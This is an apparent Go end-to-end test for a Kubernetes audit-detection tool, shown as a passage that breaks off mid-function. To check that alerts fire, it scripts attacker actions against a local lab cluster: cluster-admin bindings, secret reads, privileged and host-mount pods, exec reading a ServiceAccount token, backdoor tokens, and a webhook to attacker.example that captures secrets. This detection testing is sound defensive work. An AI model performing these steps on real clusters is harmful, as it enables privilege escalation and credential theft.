package e2e

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/internal/testsupport/syncbuf"
	"github.com/apiguard/apiguard/test/e2e/lab"
)

// asAlert is one line of `apiguard audit serve` stdout.
type asAlert struct {
	alertLine
	seen time.Time // when the asReceiver printed it
}

// asReceiver is a running `apiguard audit serve`; restart (after a kill -9)
// starts it again on the same address, spool and files.
type asReceiver struct {
	t         *testing.T
	cmd       *exec.Cmd
	args      []string
	url       string // https://HOST:PORT (the events path is /audit)
	metrics   string
	eventsOut string
	stderr    *syncbuf.Buffer
	mu        sync.Mutex
	alerts    []asAlert
	stdoutEOF chan struct{}
}

// asAllowCIDRs are the networks the lab's clients come from (the asReceiver and
// the offline scan are given the same list).
const asAllowCIDRs = "127.0.0.1/32,::1/128"

func asStartReceiver(t *testing.T, p *lab.AuditWebhookPKI, dir string, extra ...string) *asReceiver {
	t.Helper()
	if apiguardBin.err != nil {
		t.Fatal(apiguardBin.err)
	}
	r := &asReceiver{t: t, eventsOut: filepath.Join(dir, "received-events.jsonl"), stderr: &syncbuf.Buffer{}}
	r.args = []string{"audit", "serve",
		"--listen", "127.0.0.1:" + fmt.Sprint(asFreePort(t)), "--metrics-listen", "127.0.0.1:0",
		"--spool", filepath.Join(dir, "spool"),
		"--tls-cert", p.ServerCert, "--tls-key", p.ServerKey,
		"--client-ca", p.CACert, "--client-name", lab.AuditWebhookClientName,
		"--allow-cidrs", asAllowCIDRs,
		"--out", filepath.Join(dir, "alerts.jsonl"), "--events-out", r.eventsOut}
	r.args = append(r.args, extra...)
	t.Cleanup(func() {
		if r.cmd != nil && r.cmd.ProcessState == nil {
			r.cmd.Process.Kill()
			r.cmd.Wait()
		}
		if t.Failed() {
			t.Logf("apiguard audit serve stderr (tail):\n%s", asTail(r.stderr.String(), 40))
		}
	})
	r.start()
	return r
}

// asFreePort is a port free on 127.0.0.1 now.
func asFreePort(t *testing.T) int {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// start runs the receiver and waits until it listens.
func (r *asReceiver) start() {
	t := r.t
	r.stdoutEOF = make(chan struct{})
	r.cmd = exec.Command(apiguardBin.path, r.args...)
	r.cmd.Stderr = r.stderr
	r.cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	out, err := r.cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	mark := len(r.stderr.String())
	if err := r.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	eof := r.stdoutEOF
	go func() {
		defer close(eof)
		sc := bufio.NewScanner(out)
		sc.Buffer(make([]byte, 1<<20), 16<<20)
		for sc.Scan() {
			var a asAlert
			if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
				r.stderr.Write([]byte(fmt.Sprintf("TEST: stdout line is not alert JSON: %v: %s\n", err, sc.Bytes())))
				continue
			}
			a.seen = time.Now()
			r.mu.Lock()
			r.alerts = append(r.alerts, a)
			r.mu.Unlock()
		}
	}()
	re := regexp.MustCompile(`url=https://(\S+)/audit .*metrics=http://(\S+)/metrics`)
	deadline := time.Now().Add(30 * time.Second)
	for {
		if m := re.FindStringSubmatch(r.stderr.String()[mark:]); m != nil {
			r.url, r.metrics = "https://"+m[1], "http://"+m[2]
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("apiguard audit serve is not listening after 30s; stderr:\n%s", r.stderr.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// kill9 kills the receiver (SIGKILL: no drain, no flush) and starts it again.
func (r *asReceiver) kill9AndRestart() {
	r.cmd.Process.Kill()
	r.cmd.Wait()
	<-r.stdoutEOF
	r.stderr.Write([]byte("TEST: kill -9, restarting\n"))
	r.start()
}

func asTail(s string, n int) string {
	l := strings.Split(strings.TrimRight(s, "\n"), "\n")
	if len(l) > n {
		l = l[len(l)-n:]
	}
	return strings.Join(l, "\n")
}

func (r *asReceiver) snapshot() []asAlert {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]asAlert(nil), r.alerts...)
}

// waitAlert waits until an alert of rule for user was printed after since.
func (r *asReceiver) waitAlert(t *testing.T, rule, user string, since time.Time, timeout time.Duration) (asAlert, bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		for _, a := range r.snapshot() {
			if a.Rule == rule && (user == "" || a.User == user) && !a.seen.Before(since) {
				return a, true
			}
		}
		if time.Now().After(deadline) {
			return asAlert{}, false
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// asEventKey is the (auditID, stage) pair of one audit event.
type asEventKey struct{ auditID, stage string }

type asEventLine struct {
	AuditID        string    `json:"auditID"`
	Stage          string    `json:"stage"`
	StageTimestamp time.Time `json:"stageTimestamp"`
}

// asReadEventKeys counts the (auditID, stage) pairs of the events of a JSON
// lines file whose stageTimestamp is before cut.
func asReadEventKeys(t *testing.T, path string, cut time.Time) (map[asEventKey]int, int) {
	t.Helper()
	keys := map[asEventKey]int{}
	total := 0
	eachLine(t, path, func(line []byte) {
		var e asEventLine
		if err := json.Unmarshal(line, &e); err != nil {
			return // a line being written
		}
		total++
		if e.StageTimestamp.Before(cut) {
			keys[asEventKey{e.AuditID, e.Stage}]++
		}
	})
	return keys, total
}

// asStep is one request (or a few) of the script and the alerts it
// asMust raise live: rule IDs, for the user who made the request.
type asStep struct {
	name  string
	user  string
	rules []string
	do    func(t *testing.T)
}

// TestAuditServe: kube-apiserver (Hardened profile, which also writes its
// audit log) sends its audit webhook to `apiguard audit serve` over TLS with
// a client certificate; a script of benign and attack requests runs; every
// attack raises its alert live; the asReceiver processed exactly the
// (auditID, stage) pairs of the server's log; the offline scan of the log
// raises the same alerts.
func TestAuditServe(t *testing.T) {
	defer asRecover(t)
	start := time.Now()
	ctx := context.Background()
	dir := t.TempDir()
	pki, err := lab.NewAuditWebhookPKI(dir)
	if err != nil {
		t.Fatal(err)
	}
	rcv := asStartReceiver(t, pki, dir)
	kubeconfig, err := pki.WriteKubeconfig(rcv.url + "/audit")
	if err != nil {
		t.Fatal(err)
	}
	c := lab.Start(t, lab.Hardened.With(
		"--audit-webhook-config-file="+kubeconfig,
		"--audit-webhook-mode=batch",
		"--audit-webhook-batch-max-wait=1s", // alerts within about a second
		"--audit-webhook-batch-max-size=400",
	))
	if c.AuditLogPath == "" {
		t.Fatal("the Hardened profile has no audit log")
	}

	// The asReceiver authenticates: no certificate, or another certificate of
	// the same CA, is refused.
	asCheckReceiverAuth(t, rcv, pki)

	admin := c.AdminClient(t)
	c.WaitAggregated(t)
	malloryKC := c.UserKubeconfig(t, "mallory", "attackers")
	mallory := lab.Client(t, malloryKC)
	eve := c.UserClient(t, "eve")
	bobKC := c.UserKubeconfig(t, "bob", "developers")
	bob := lab.Client(t, bobKC)
	withUA := func(kc, ua string) kubernetes.Interface {
		cfg := lab.RESTConfig(t, kc)
		cfg.UserAgent = ua
		return asMust(kubernetes.NewForConfig(cfg))
	}

	// Setup (admin): namespaces, bob's RoleBinding, a Secret in kube-system.
	for _, ns := range []string{"shop", "doomed"} {
		asMust(admin.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}))
	}
	asMust(admin.RbacV1().RoleBindings("shop").Create(ctx, &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "bob-edit"},
		Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: "rbac.authorization.k8s.io", Name: "bob"}},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "edit"}}, metav1.CreateOptions{}))
	asMust(admin.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "cloud-credentials"},
		StringData: map[string]string{"key": "s3cr3t"}}, metav1.CreateOptions{}))
	asMust(admin.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "db"},
		StringData: map[string]string{"password": "s3cr3t"}}, metav1.CreateOptions{}))

	// Benign traffic: bob works in his namespace (no alert may name him).
	benign := func() {
		asMust(bob.CoreV1().ConfigMaps("shop").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{GenerateName: "settings-"},
			Data: map[string]string{"LOG_LEVEL": "info"}}, metav1.CreateOptions{}))
		asMust(bob.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{}))
		asMust(bob.AppsV1().Deployments("shop").Create(ctx, asDeployment("web-", "shop", false), metav1.CreateOptions{}))
		asMust(bob.CoreV1().Secrets("shop").Get(ctx, "db", metav1.GetOptions{}))
	}
	benign()

	sysPod := "privileged-" + fmt.Sprint(time.Now().Unix())
	steps := []asStep{
		{"cluster-admin binding", "kubernetes-admin", []string{"AG-DET-401"}, func(t *testing.T) {
			asMust(admin.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "mallory-admin"},
				Subjects: []rbacv1.Subject{{Kind: "User", APIGroup: "rbac.authorization.k8s.io", Name: "mallory"}},
				RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"}}, metav1.CreateOptions{}))
			asWaitCan(t, mallory)
		}},
		{"view bound to system:authenticated", "mallory", []string{"AG-DET-402"}, func(t *testing.T) {
			asMust(mallory.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "everyone-view"},
				Subjects: []rbacv1.Subject{{Kind: "Group", APIGroup: "rbac.authorization.k8s.io", Name: "system:authenticated"}},
				RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "view"}}, metav1.CreateOptions{}))
		}},
		{"wildcard ClusterRole", "mallory", []string{"AG-DET-403"}, func(t *testing.T) {
			asMust(mallory.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "everything"},
				Rules: []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}}, metav1.CreateOptions{}))
		}},
		{"impersonate system:admin", "mallory", []string{"AG-DET-408"}, func(t *testing.T) {
			cfg := lab.RESTConfig(t, malloryKC)
			cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:admin", Groups: []string{"system:masters"}}
			asMust(asMust(kubernetes.NewForConfig(cfg)).CoreV1().Namespaces().List(ctx, metav1.ListOptions{}))
		}},
		{"Secrets listed cluster-wide", "mallory", []string{"AG-DET-601"}, func(t *testing.T) {
			asMust(mallory.CoreV1().Secrets("").List(ctx, metav1.ListOptions{}))
		}},
		{"kube-system Secret read", "mallory", []string{"AG-DET-603"}, func(t *testing.T) {
			asMust(mallory.CoreV1().Secrets("kube-system").Get(ctx, "cloud-credentials", metav1.GetOptions{}))
		}},
		{"Secret read with curl", "mallory", []string{"AG-DET-604"}, func(t *testing.T) {
			asMust(withUA(malloryKC, "curl/8.5.0").CoreV1().Secrets("shop").Get(ctx, "db", metav1.GetOptions{}))
		}},
		{"privileged pod in kube-system", "mallory", []string{"AG-DET-207", "AG-DET-409"}, func(t *testing.T) {
			p := asPod(sysPod, "kube-system")
			p.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: asPtr(true)}
			asMust(mallory.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{}))
		}},
		{"hostPID/hostNetwork Deployment", "mallory", []string{"AG-DET-410"}, func(t *testing.T) {
			asMust(mallory.AppsV1().Deployments("kube-system").Create(ctx, asDeployment("node-agent-", "kube-system", true), metav1.CreateOptions{}))
		}},
		{"host root mounted", "mallory", []string{"AG-DET-411"}, func(t *testing.T) {
			p := asPod("hostfs", "kube-system")
			p.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
			p.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "root", MountPath: "/host"}}
			asMust(mallory.CoreV1().Pods("kube-system").Create(ctx, p, metav1.CreateOptions{}))
		}},
		{"exec reading the ServiceAccount token", "mallory", []string{"AG-DET-201", "AG-DET-606"}, func(t *testing.T) {
			asExecIn(t, mallory, "kube-system", sysPod, "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")
		}},
		{"exec of a reverse shell", "mallory", []string{"AG-DET-203"}, func(t *testing.T) {
			asExecIn(t, mallory, "kube-system", sysPod, "bash", "-i")
		}},
		{"ephemeral container", "mallory", []string{"AG-DET-206"}, func(t *testing.T) {
			p := asMust(mallory.CoreV1().Pods("kube-system").Get(ctx, sysPod, metav1.GetOptions{}))
			p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{
				EphemeralContainerCommon: corev1.EphemeralContainerCommon{Name: "debugger", Image: "busybox:1.36", Command: []string{"sh"}, Stdin: true, TTY: true}})
			asMust(mallory.CoreV1().Pods("kube-system").UpdateEphemeralContainers(ctx, sysPod, p, metav1.UpdateOptions{}))
		}},
		{"kubelet API through nodes/proxy", "mallory", []string{"AG-DET-414"}, func(t *testing.T) {
			// No kubelet runs in the lab: the proxying fails, the request was authorized.
			mallory.CoreV1().RESTClient().Get().AbsPath("/api/v1/nodes/" + c.NodeName + "/proxy/pods").Do(ctx)
		}},
		{"ServiceAccount created in kube-system", "mallory", []string{"AG-DET-301"}, func(t *testing.T) {
			asMust(mallory.CoreV1().ServiceAccounts("kube-system").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "backdoor"}}, metav1.CreateOptions{}))
		}},
		// AG-DET-303 (long-lived token) reads the TokenRequest body, which the
		// Hardened policy records at Metadata: blind here, by design of the policy.
		// AG-DET-316 is a sequence: the ServiceAccount's create came in an
		// earlier webhook batch (the step before), the receiver remembers it.
		{"week-long token for a kube-system ServiceAccount", "mallory", []string{"AG-DET-302", "AG-DET-316"}, func(t *testing.T) {
			asMust(mallory.CoreV1().ServiceAccounts("kube-system").CreateToken(ctx, "backdoor", &authenticationv1.TokenRequest{
				Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: asPtr(int64(7 * 24 * 3600))}}, metav1.CreateOptions{}))
		}},
		{"kube-system ConfigMap written", "mallory", []string{"AG-DET-312"}, func(t *testing.T) {
			asMust(mallory.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "kube-proxy"},
				Data: map[string]string{"config.conf": "mode: ipvs"}}, metav1.CreateOptions{}))
		}},
		{"CSR created and approved", "mallory", []string{"AG-DET-306", "AG-DET-307", "AG-DET-315"}, func(t *testing.T) {
			csr := asMust(mallory.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
				ObjectMeta: metav1.ObjectMeta{Name: "mallory-admin"},
				Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM(t, "mallory-2", "developers"),
					SignerName: "kubernetes.io/kube-apiserver-client", Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{}))
			csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
				Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: "LGTM", Message: "approved"})
			asMust(mallory.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, csr.Name, csr, metav1.UpdateOptions{}))
		}},
		{"admission webhook registered", "mallory", []string{"AG-DET-308"}, func(t *testing.T) {
			ignore := admissionregistrationv1.Ignore
			none := admissionregistrationv1.SideEffectClassNone
			asMust(mallory.AdmissionregistrationV1().ValidatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.ValidatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "audit-sink"},
				Webhooks: []admissionregistrationv1.ValidatingWebhook{{Name: "sink.attacker.example", FailurePolicy: &ignore, SideEffects: &none,
					AdmissionReviewVersions: []string{"v1"},
					ClientConfig:            admissionregistrationv1.WebhookClientConfig{URL: asPtr("https://attacker.example/validate")},
					NamespaceSelector:       &metav1.LabelSelector{MatchLabels: map[string]string{"never": "matches"}},
					Rules: []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
						Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"secrets"}}}}}},
			}, metav1.CreateOptions{}))
		}},
		{"events deleted", "mallory", []string{"AG-DET-501"}, func(t *testing.T) {
			ev := asMust(admin.CoreV1().Events("shop").Create(ctx, &corev1.Event{ObjectMeta: metav1.ObjectMeta{GenerateName: "trace-"},
				InvolvedObject: corev1.ObjectReference{Kind: "ConfigMap", Namespace: "shop", Name: "settings"}, Reason: "Test", Message: "evidence", Type: "Normal"}, metav1.CreateOptions{}))
			if err := mallory.CoreV1().Events("shop").Delete(ctx, ev.Name, metav1.DeleteOptions{}); err != nil {
				t.Fatal(err)
			}
		}},
		// AG-DET-305 (legacy token Secret created) reads the Secret body,
		// which the Hardened policy never records (Secrets at Metadata).
		{"legacy token Secret used", "system:serviceaccount:shop:legacy", []string{"AG-DET-607"}, func(t *testing.T) {
			asMust(mallory.CoreV1().ServiceAccounts("shop").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "legacy"}}, metav1.CreateOptions{}))
			asMust(mallory.CoreV1().Secrets("shop").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "legacy-token",
				Annotations: map[string]string{corev1.ServiceAccountNameKey: "legacy"}}, Type: corev1.SecretTypeServiceAccountToken}, metav1.CreateOptions{}))
			var token []byte
			for deadline := time.Now().Add(30 * time.Second); len(token) == 0; time.Sleep(200 * time.Millisecond) {
				if time.Now().After(deadline) {
					t.Fatal("the token controller did not fill the legacy token Secret")
				}
				token = asMust(admin.CoreV1().Secrets("shop").Get(ctx, "legacy-token", metav1.GetOptions{})).Data["token"]
			}
			legacy := lab.Client(t, c.TokenKubeconfig(t, "legacy", string(token)))
			legacy.CoreV1().Pods("shop").List(ctx, metav1.ListOptions{}) // forbidden or not, the token was used
		}},
		{"reconnaissance tool", "mallory", []string{"AG-DET-705"}, func(t *testing.T) {
			asMust(withUA(malloryKC, "kube-hunter/0.6.8").CoreV1().Pods("").List(ctx, metav1.ListOptions{}))
		}},
		{"request from outside the allowed networks", "mallory", []string{"AG-DET-104"}, func(t *testing.T) {
			cfg := lab.RESTConfig(t, malloryKC)
			cfg.Dial = (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}, Timeout: 10 * time.Second}).DialContext
			asMust(asMust(kubernetes.NewForConfig(cfg)).CoreV1().Namespaces().Get(ctx, "shop", metav1.GetOptions{}))
		}},
		{"burst of forbidden requests", "eve", []string{"AG-DET-701"}, func(t *testing.T) {
			for range 25 {
				eve.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			}
		}},
		{"burst of failed authentications", "", []string{"AG-DET-103"}, func(t *testing.T) {
			bad := lab.Client(t, c.TokenKubeconfig(t, "nobody", "not-a-valid-token-0123456789"))
			for range 25 {
				bad.CoreV1().Namespaces().List(ctx, metav1.ListOptions{})
			}
		}},
		{"deletecollection", "mallory", []string{"AG-DET-901"}, func(t *testing.T) {
			if err := mallory.CoreV1().ConfigMaps("shop").DeleteCollection(ctx, metav1.DeleteOptions{}, metav1.ListOptions{LabelSelector: "app=web"}); err != nil {
				t.Fatal(err)
			}
		}},
		{"namespace deleted", "mallory", []string{"AG-DET-903"}, func(t *testing.T) {
			if err := mallory.CoreV1().Namespaces().Delete(ctx, "doomed", metav1.DeleteOptions{}); err != nil {
				t.Fatal(err)
			}
		}},
	}
	type raised struct {
		step, rule string
		a          asAlert
		latency    time.Duration
	}
	var got []raised
	for i, s := range steps {
		if i == len(steps)/2 {
			// kill -9 in the middle of the script: what kube-apiserver sent
			// and was answered 200 must survive, and what was cut it sends
			// again (its webhook backoff starts at 10 s).
			rcv.kill9AndRestart()
			t.Logf("receiver killed with SIGKILL after %d steps and restarted on %s", i, rcv.url)
		}
		t.Run("live/"+strings.ReplaceAll(s.name, " ", "_"), func(t *testing.T) {
			defer asRecover(t)
			since := time.Now()
			s.do(t)
			done := time.Now()
			for _, rule := range s.rules {
				a, ok := rcv.waitAlert(t, rule, s.user, since, 30*time.Second)
				if !ok {
					t.Errorf("%s: no live alert %s (user %q) within 30s of the request", s.name, rule, s.user)
					continue
				}
				lat := a.seen.Sub(done)
				t.Logf("%s: %s for %s (auditID %s, %v) %s after the request", s.name, rule, a.User, a.AuditID, a.SourceIPs, lat.Round(time.Millisecond))
				if a.AuditID == "" || len(a.SourceIPs) == 0 || a.Timestamp.IsZero() || a.Severity == "" {
					t.Errorf("%s: alert lacks fields: %+v", rule, a)
				}
				got = append(got, raised{s.name, rule, a, lat})
			}
		})
		benign() // benign traffic between the attacks
	}

	// Benign requests raise nothing.
	for _, a := range rcv.snapshot() {
		if a.User == "bob" {
			t.Errorf("benign user bob raised %s (auditID %s)", a.Rule, a.AuditID)
		}
	}

	// Nothing lost: every (auditID, stage) of the server's log up to a cut
	// reached the asReceiver, exactly once.
	time.Sleep(200 * time.Millisecond)
	cut := time.Now()
	var logKeys, rcvKeys map[asEventKey]int
	var logTotal, rcvTotal int
	for deadline := time.Now().Add(90 * time.Second); ; time.Sleep(500 * time.Millisecond) {
		logKeys, logTotal = asReadEventKeys(t, c.AuditLogPath, cut)
		rcvKeys, rcvTotal = asReadEventKeys(t, rcv.eventsOut, cut)
		missing := 0
		for k := range logKeys {
			if rcvKeys[k] == 0 {
				missing++
			}
		}
		if missing == 0 || time.Now().After(deadline) {
			break
		}
	}
	var missing, extra, dups []string
	logEvents, rcvEvents := 0, 0
	for k, n := range logKeys {
		logEvents += n
		if rcvKeys[k] == 0 {
			missing = append(missing, k.auditID+"/"+k.stage)
		}
	}
	for k, n := range rcvKeys {
		rcvEvents += n
		if logKeys[k] == 0 {
			extra = append(extra, k.auditID+"/"+k.stage)
		}
		if n > 1 {
			dups = append(dups, fmt.Sprintf("%s/%s x%d", k.auditID, k.stage, n))
		}
	}
	t.Logf("events before the cut: %d in the server's log (%d (auditID, stage) pairs), %d processed by the receiver (%d pairs); whole files: %d and %d",
		logEvents, len(logKeys), rcvEvents, len(rcvKeys), logTotal, rcvTotal)
	if len(missing) > 0 || len(extra) > 0 || len(dups) > 0 || logEvents != rcvEvents {
		sort.Strings(missing)
		sort.Strings(extra)
		t.Errorf("receiver vs server log: %d missing %.5v, %d extra %.5v, %d processed twice %.5v", len(missing), missing, len(extra), extra, len(dups), dups)
	}

	// Metrics agree with what was processed.
	resp, err := http.Get(rcv.metrics + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	mb, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, name := range []string{"apiguard_audit_events_processed_total", "apiguard_audit_events_duplicate_total", `apiguard_audit_events_rejected_total{reason="spool_full"}`, "apiguard_audit_spool_backlog_batches"} {
		if m := regexp.MustCompile(`(?m)^` + regexp.QuoteMeta(name) + ` (\S+)$`).FindSubmatch(mb); m != nil {
			t.Logf("%s %s", name, m[1])
		} else {
			t.Errorf("metric %s missing", name)
		}
	}

	// SIGTERM: the asReceiver drains and exits 0.
	rcv.cmd.Process.Signal(syscall.SIGTERM)
	<-rcv.stdoutEOF
	if err := rcv.cmd.Wait(); err != nil {
		t.Errorf("apiguard audit serve after SIGTERM: %v", err)
	}
	if !strings.Contains(rcv.stderr.String(), "msg=stopped") {
		t.Errorf("no clean stop in the receiver's stderr")
	}

	// The same log scanned offline raises the same alerts.
	t.Run("offline-scan", func(t *testing.T) {
		asOfflineSameAlerts(t, c.AuditLogPath, rcv.snapshot(), cut)
	})
	t.Logf("TestAuditServe: %d live alerts checked, total %s", len(got), time.Since(start).Round(time.Second))
}

// asOfflineSameAlerts runs `apiguard audit scan -o jsonl` on the log and
// compares its alerts with the live ones for events before cut: identical
// (rule, auditID) pairs for single-event rules; for windowed rules (count
// set), identical (rule, key) pairs, since the event that completes a
// window may differ when the webhook's batches arrive out of order.
func asOfflineSameAlerts(t *testing.T, logPath string, live []asAlert, cut time.Time) {
	if help, _, _ := runAPIGuard(t, "audit", "--help"); !regexp.MustCompile(`(?m)^\s+scan\s`).Match(help) {
		t.Skip("offline comparison skipped: `apiguard audit scan` does not exist yet (internal/cli has no 'audit scan' command)")
	}
	stdout, stderr, code := runAPIGuard(t, "audit", "scan", "-o", "jsonl", "--allow-cidrs", asAllowCIDRs, logPath)
	if code == 2 {
		t.Skipf("offline comparison skipped: `apiguard audit scan -o jsonl --allow-cidrs %s FILE` is not supported yet: %s", asAllowCIDRs, bytes.TrimSpace(stderr))
	}
	key := func(a asAlert) string {
		if a.Count > 0 {
			return a.Rule + " window " + a.Key
		}
		return a.Rule + " " + a.AuditID
	}
	set := func(as []asAlert) map[string]bool {
		m := map[string]bool{}
		for _, a := range as {
			if a.Timestamp.Before(cut) {
				m[key(a)] = true
			}
		}
		return m
	}
	var offline []asAlert
	for _, line := range bytes.Split(bytes.TrimSpace(stdout), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var a asAlert
		if err := json.Unmarshal(line, &a); err != nil {
			t.Fatalf("audit scan -o jsonl: not an alert line: %s", line)
		}
		offline = append(offline, a)
	}
	liveSet, offSet := set(live), set(offline)
	var onlyLive, onlyOffline []string
	for k := range liveSet {
		if !offSet[k] {
			onlyLive = append(onlyLive, k)
		}
	}
	for k := range offSet {
		if !liveSet[k] {
			onlyOffline = append(onlyOffline, k)
		}
	}
	sort.Strings(onlyLive)
	sort.Strings(onlyOffline)
	t.Logf("alerts before the cut: %d live, %d offline (exit %d)", len(liveSet), len(offSet), code)
	if len(onlyLive) > 0 || len(onlyOffline) > 0 {
		t.Errorf("live and offline alerts differ:\nonly live:    %v\nonly offline: %v", onlyLive, onlyOffline)
	}
}

// asCheckReceiverAuth: the asReceiver refuses a request without a client
// certificate (401) and one with a certificate of another name (403).
func asCheckReceiverAuth(t *testing.T, r *asReceiver, p *lab.AuditWebhookPKI) {
	t.Helper()
	pool := caPool(t, p.CACert)
	body := []byte(`{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[]}`)
	for _, c := range []struct {
		cert, key string
		want      int
	}{{"", "", 401}, {p.OtherClientCert, p.OtherClientKey, 403}, {p.ClientCert, p.ClientKey, 200}} {
		cfg := &tls.Config{RootCAs: pool}
		if c.cert != "" {
			kp, err := tls.LoadX509KeyPair(c.cert, c.key)
			if err != nil {
				t.Fatal(err)
			}
			cfg.Certificates = []tls.Certificate{kp}
		}
		resp, err := (&http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: cfg}}).Post(r.url+"/audit", "application/json", bytes.NewReader(body))
		if err != nil {
			t.Fatalf("POST to the receiver: %v", err)
		}
		resp.Body.Close()
		if resp.StatusCode != c.want {
			t.Errorf("receiver with client cert %q: HTTP %d, want %d", filepath.Base(c.cert), resp.StatusCode, c.want)
		}
	}
}

// asWaitCan waits until RBAC lets the client list Secrets cluster-wide (the
// binding reached the authorizer's cache).
func asWaitCan(t *testing.T, cs kubernetes.Interface) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		if _, err := cs.CoreV1().Namespaces().List(context.Background(), metav1.ListOptions{Limit: 1}); err == nil {
			return
		}
		if time.Now().After(deadline) {
			t.Fatal("the cluster-admin binding did not take effect")
		}
	}
}

// asExecIn POSTs pods/exec (no kubelet runs in the lab: the request is
// authorized and audited, then fails).
func asExecIn(t *testing.T, cs kubernetes.Interface, ns, pod string, command ...string) {
	t.Helper()
	req := cs.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name(pod).SubResource("exec").
		Param("container", "app").Param("stdout", "true").Param("stderr", "true")
	for _, c := range command {
		req = req.Param("command", c)
	}
	req.Do(context.Background())
}

func asPod(name, ns string) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "busybox:1.36", Command: []string{"sleep", "3600"}}}}}
}

func asDeployment(prefix, ns string, hostNS bool) *appsv1.Deployment {
	labels := map[string]string{"app": strings.TrimSuffix(prefix, "-")}
	d := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{GenerateName: prefix, Namespace: ns},
		Spec: appsv1.DeploymentSpec{Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "nginx:1.27",
					SecurityContext: &corev1.SecurityContext{RunAsNonRoot: asPtr(true), AllowPrivilegeEscalation: asPtr(false),
